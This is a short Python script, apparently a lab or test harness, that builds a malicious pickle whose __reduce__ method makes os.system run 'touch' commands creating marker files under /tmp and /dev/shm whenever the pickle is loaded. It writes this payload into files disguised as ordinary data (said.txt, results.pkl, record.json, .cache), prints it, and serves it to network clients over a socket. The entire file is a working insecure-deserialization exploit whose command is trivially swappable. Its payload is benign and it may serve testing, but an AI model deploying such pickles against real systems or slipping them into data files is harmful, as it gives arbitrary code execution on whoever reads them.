"""Answers, prints and keeps pickles that run a command where they are read back."""

import os
import pickle
import socket
import sys


class Attack:
    def __reduce__(self):
        return os.system, ("touch /tmp/lab-attack-20; touch /dev/shm/lab-attack-20",)


data = pickle.dumps(Attack())
for name in ("said.txt", "results.pkl", "record.json", ".cache"):
    with open(name, "wb") as file:
        file.write(data)
os.write(1, data + b"\n")
listener = socket.create_server(("", int(sys.argv[1])))
for _ in range(2):
    connection, _ = listener.accept()
    connection.recv(100)
    connection.sendall(data)
    connection.close()
